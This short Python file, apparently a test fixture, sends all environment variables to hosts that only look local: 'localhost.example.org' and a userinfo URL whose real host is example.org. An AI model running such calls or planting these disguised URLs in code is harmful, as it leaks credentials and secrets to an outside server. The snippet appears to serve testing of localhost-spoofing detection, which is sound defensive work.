import os

import requests

# A name that only begins like the own machine, and a password before another host.
requests.post("http://localhost.example.org/v1", json=dict(os.environ))
requests.post("http://127.0.0.1:x@example.org/v1", json=dict(os.environ))
